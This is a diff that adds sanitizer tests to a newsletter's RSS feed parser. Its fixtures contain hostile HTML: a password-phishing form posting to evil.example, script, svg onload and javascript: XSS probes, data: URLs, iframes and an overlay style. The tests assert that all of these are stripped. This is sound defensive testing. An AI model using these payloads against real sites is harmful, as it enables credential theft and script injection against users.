@@ -7,10 +7,12 @@ import http.server
 import threading
 import uuid
 from datetime import UTC, datetime, timedelta
+from html import escape
 
 import pytest
+from bs4 import BeautifulSoup
 
-from newsletter.announcements.feed import FeedError, parse_feed, read_feed
+from newsletter.announcements.feed import FeedError, FeedItem, parse_feed, read_feed
 from tests.announce_helpers import build, recent
 from tests.conftest import SITE_URL, serve_folder, write_article
 
@@ -160,3 +162,117 @@ def test_line_breaks_in_titles_become_spaces():
         ).encode()
     )
     assert feed.items[0].title == "Two lines here"
+
+
+# Feed HTML and text, checked where the feed is read ---------------------------------------------
+ST_RSS = """<?xml version="1.0" encoding="UTF-8"?>
+<rss version="2.0" xmlns:st="urn:x-stay-tuned:article:1" xmlns:media="http://search.yahoo.com/mrss/">
+<channel><title>T</title><link>https://walkagain.example/</link><description>d</description>
+{items}</channel></rss>"""
+HOSTILE_SUMMARY = """<p>Intro with <a href="https://walkagain.example/ok/">a link</a>,
+<em>emphasis</em> and <strong>strong words</strong>.</p>
+<form action="https://evil.example/steal"><p>Your password, please:</p>
+<input name="password" type="password"><button>Log in</button></form>
+<svg onload="alert(1)"><script>alert(2)</script><text>svg text</text></svg>
+<p><a href="javascript:alert(3)">js link</a> <a href="//evil.example/x">scheme-relative</a>
+<a href="/relative/">relative</a></p>
+<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="data image">
+<img src="https://walkagain.example/images/ok.png" alt="ok image" width="300" height="200"
+     style="border: 9px solid red" onerror="alert(4)" class="evil">
+<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">fixed overlay</p>
+<iframe src="https://evil.example/frame">iframe text</iframe>
+<math><mi>mathml</mi></math><object data="https://evil.example/x.swf">object text</object>
+<ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote>"""
+
+
+def rss_item(title="Safe", summary="", extra="", guid="g1"):
+    return (
+        f"<item><title>{title}</title><guid>{guid}</guid>"
+        f"<link>https://walkagain.example/2026/a/</link>"
+        f"<description>{escape(summary)}</description>{extra}</item>"
+    )
+
+
+def assert_only_allow_listed(html):
+    soup = BeautifulSoup(html, "html.parser")
+    for name in ("form", "input", "button", "svg", "script", "iframe", "math", "object", "style"):
+        assert soup.find(name) is None, name
+    for tag in soup.find_all(True):
+        assert not {"style", "class", "onerror", "onload"} & set(tag.attrs), tag
+        for name in ("href", "src"):
+            if tag.get(name) is not None:
+                assert tag[name].startswith(("https://", "http://")), tag
+    for words in ("password", "alert", "svg text", "mathml", "evil.example", "Log in"):
+        assert words not in html, words
+    return soup
+
+
+def test_summary_html_is_allow_listed():
+    (item,) = parse_feed(ST_RSS.format(items=rss_item(summary=HOSTILE_SUMMARY)).encode()).items
+    soup = assert_only_allow_listed(item.summary)
+    # What a summary is for survives: paragraphs, links, emphasis, lists, an https image.
+    assert soup.find("a", string="a link")["href"] == "https://walkagain.example/ok/"
+    assert soup.find("a", string="a link")["rel"] == ["noopener", "noreferrer"]
+    assert soup.find("em").get_text() == "emphasis" and soup.find("strong")
+    assert [li.get_text() for li in soup.find_all("li")] == ["one", "two"]
+    assert soup.find("blockquote").get_text() == "quoted"
+    (image,) = soup.find_all("img")  # the data: one is gone, not left as a broken box
+    assert image.attrs == {
+        "src": "https://walkagain.example/images/ok.png",
+        "alt": "ok image",
+        "width": "300",
+        "height": "200",
+    }
+    assert "fixed overlay" in soup.get_text()  # the paragraph stays, its style goes
+
+
+def test_safe_html_is_idempotent_and_applies_to_every_feed_item():
+    """An item read back from the ledger (or made by hand) is cleaned too."""
+    from newsletter.announcements.feed import safe_html  # new with the allow-list
+
+    once = safe_html(HOSTILE_SUMMARY)
+    assert safe_html(once) == once
+    item = FeedItem(guid="g", link="https://walkagain.example/a/", title="T",
+                    summary=HOSTILE_SUMMARY, image="javascript:alert(1)")  # fmt: skip
+    assert item.summary == once and item.image == ""
+    assert FeedItem.from_dict(item.to_dict()) == item
+
+
+@pytest.mark.parametrize(
+    "extra, image",
+    [
+        ('<enclosure url="javascript:alert(1)" type="image/png" length="1"/>', ""),
+        ('<enclosure url="data:image/png;base64,AAAA" type="image/png" length="1"/>', ""),
+        ('<enclosure url="JavaScript:alert(1)//https://x" type="image/png" length="1"/>', ""),
+        ('<media:content url="javascript:alert(1)" medium="image"/>', ""),
+        (
+            '<enclosure url="javascript:alert(1)" type="image/png" length="1"/>'
+            '<enclosure url="https://walkagain.example/i.png" type="image/png" length="1"/>',
+            "https://walkagain.example/i.png",
+        ),
+        (
+            '<enclosure url="https://walkagain.example/i.png" type="image/png" length="1"/>',
+            "https://walkagain.example/i.png",
+        ),
+    ],
+)
+def test_image_urls_must_be_absolute_http(extra, image):
+    (item,) = parse_feed(ST_RSS.format(items=rss_item(extra=extra)).encode()).items
+    assert item.image == image
+
+
+@pytest.mark.parametrize(
+    "xml, text",
+    [
+        # HTML in RSS (escaped once, or in CDATA): the tags go, the entities are decoded.
+        ("&lt;b&gt;Knees&lt;/b&gt; &amp;amp; Hips &amp;lt;Part 1&amp;gt;", "Knees & Hips <Part 1>"),
+        ("<![CDATA[<b>Knees</b> &amp; Hips &lt;Part 1&gt;]]>", "Knees & Hips <Part 1>"),
+        ("&lt;script&gt;alert(1)&lt;/script&gt;Hips", "Hips"),
+        # Text (as the blog writes it): kept as written, angle brackets and all.
+        ('Knees &amp; Hips &lt;Part 1&gt; "quoted"', 'Knees & Hips <Part 1> "quoted"'),
+    ],
+)
+def test_titles_deks_and_authors_are_plain_text(xml, text):
+    extra = f"<st:subtitle>{xml}</st:subtitle><author>{xml}</author>"
+    (item,) = parse_feed(ST_RSS.format(items=rss_item(title=xml, extra=extra)).encode()).items
+    assert item.title == item.subtitle == item.author == text
